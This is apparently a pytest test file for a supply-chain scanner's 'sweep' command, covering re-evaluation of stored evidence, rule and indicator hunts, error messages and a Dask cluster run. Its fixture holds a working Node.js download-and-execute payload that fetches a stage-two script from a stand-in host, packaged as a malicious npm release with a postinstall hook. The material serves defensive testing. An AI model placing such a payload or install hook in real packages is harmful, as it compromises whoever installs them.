"""`customhouse sweep` from outside: what was inspected is judged again, here and on a cluster."""

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime

import pytest

from pipeline.projects import rules_of
from report.schemas import validator

OLD = datetime(2024, 1, 1, tzinfo=UTC)
PAYLOAD = """\
const { execSync } = require('child_process');
const https = require('https');
const fs = require('fs');
https.get('https://files.replica.invalid/stage2', (response) => {
  response.on('data', (part) => { fs.appendFileSync('/tmp/replica.sh', part); });
  response.on('end', () => execSync('sh /tmp/replica.sh'));
});
"""


@pytest.fixture
def inspected(customhouse, registry, tmp_path):
    """Two releases in the cache, the evil one let in by a policy of its own."""
    registry.npm.publish("good", "1.0.0", files={"index.js": "exports.a = 1\n"}, published=OLD)
    files = {"index.js": "1\n", "setup.js": PAYLOAD}
    registry.npm.publish("evil", "1.0.0", files={"index.js": "1\n"}, published=OLD)
    registry.npm.publish("evil", "1.0.1", files=files, scripts={"postinstall": "node setup.js"}, published=OLD)
    lenient = tmp_path / "lenient.toml"
    lenient.write_text(
        "".join(f'[policy.{each}]\nhigh="allow"\nmedium="allow"\nlow="allow"\n' for each in ("critical", "high"))
    )
    customhouse("inspect", "pkg:npm/good@1.0.0", "--config", lenient)
    outcome = customhouse("inspect", "pkg:npm/evil@1.0.1", "--config", lenient, "--format", "json")
    assert outcome.json["verdict"] == "allow"
    return outcome.json


def test_a_stricter_policy_finds_what_was_let_in_and_gives_the_same_findings(customhouse, inspected, registry):
    asked = len(registry.requests)
    outcome = customhouse("sweep", "--format", "json")
    assert outcome.code in (10, 20)
    assert not list(validator("../../docs/schemas/sweep-1.json").iter_errors(outcome.json))
    (told,) = outcome.json["told"]
    assert (told["purl"], told["before"]) == ("pkg:npm/evil@1.0.1", "allow")
    assert rules_of(told) == rules_of(inspected), "a decision must be reproducible from stored evidence"
    assert told["digests"] == inspected["digests"]
    assert outcome.json["artifacts"] == 3
    assert len(registry.requests) == asked, "nothing is fetched"
    plain = customhouse("sweep")
    assert plain.code == outcome.code
    assert "evil@1.0.1 (inspected" in plain.stdout
    assert "was allow)" in plain.stdout


@pytest.mark.usefixtures("inspected")
def test_rules_and_indicators_are_hunted_for(customhouse, tmp_path):
    by_rule = customhouse("sweep", "--rules", "install-script", "--format", "json")
    assert [each["purl"] for each in by_rule.json["told"]] == ["pkg:npm/evil@1.0.1"]
    pack = tmp_path / "pack.csv"
    pack.write_text("type,indicator,context\ndomain,files[.]replica[.]invalid,stage two\n")
    by_indicator = customhouse("sweep", "--indicator", f"@{pack}")
    assert by_indicator.code == 20
    assert "FOUND evil@1.0.1" in by_indicator.stdout
    assert "indicator host files.replica.invalid (stage two): evil-1.0.1.tgz setup.js" in by_indicator.stdout
    nothing = customhouse("sweep", "--indicator", "other.replica.invalid")
    assert (nothing.code, nothing.stdout.splitlines()[-1]) == (0, "none shows an indicator")


def test_nothing_stored_and_wrong_input_are_said(customhouse):
    empty = customhouse("sweep")
    assert empty.code == 3
    assert "hint: evidence is stored by" in empty.stderr
    unknown = customhouse("sweep", "--rules", "install-scripts")
    assert unknown.code == 2
    assert "did you mean install-script?" in unknown.stderr
    truncated = customhouse("sweep", "--indicator", "a" * 39)
    assert truncated.code == 2
    assert "has 39 digits" in truncated.stderr
    nobody = customhouse("sweep", "--scheduler", "nonsense")
    assert nobody.code == 4
    assert "no Dask scheduler answers at nonsense" in nobody.stderr
    assert "hint:" in nobody.stderr


@contextlib.contextmanager
def dask(*arguments):
    """A scheduler or worker process of its own, as an operator would start one."""
    process = subprocess.Popen(
        [sys.executable, "-m", "distributed.cli.dask_" + arguments[0], *arguments[1:]],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@pytest.mark.usefixtures("inspected")
def test_a_cluster_of_workers_started_by_hand_says_the_same(customhouse, tmp_path):
    pytest.importorskip("distributed", reason="dask.distributed is an extra: pip install 'customhouse[sweep]'")
    here = customhouse("sweep", "--format", "json")
    where = tmp_path / "scheduler.json"
    worker = ("worker", "--scheduler-file", str(where), "--nthreads", "1", "--no-dashboard")
    with (
        dask("scheduler", "--host", "127.0.0.1", "--port", "0", "--no-dashboard", "--scheduler-file", str(where)),
        dask(*worker),
        dask(*worker) as second,
    ):
        for _ in range(300):
            if where.is_file() and where.stat().st_size:
                break
            time.sleep(0.1)
        address = json.loads(where.read_text())["address"]
        there = customhouse("sweep", "--format", "json", "--scheduler", address)
        os.killpg(second.pid, signal.SIGKILL)
        again = customhouse("sweep", "--format", "json", "--scheduler", address)
    for outcome in (there, again):
        assert outcome.code == here.code, outcome.stderr
        assert outcome.json["told"] == here.json["told"]
        assert outcome.json["artifacts"] == here.json["artifacts"]
        assert outcome.json["workers"].startswith(address)
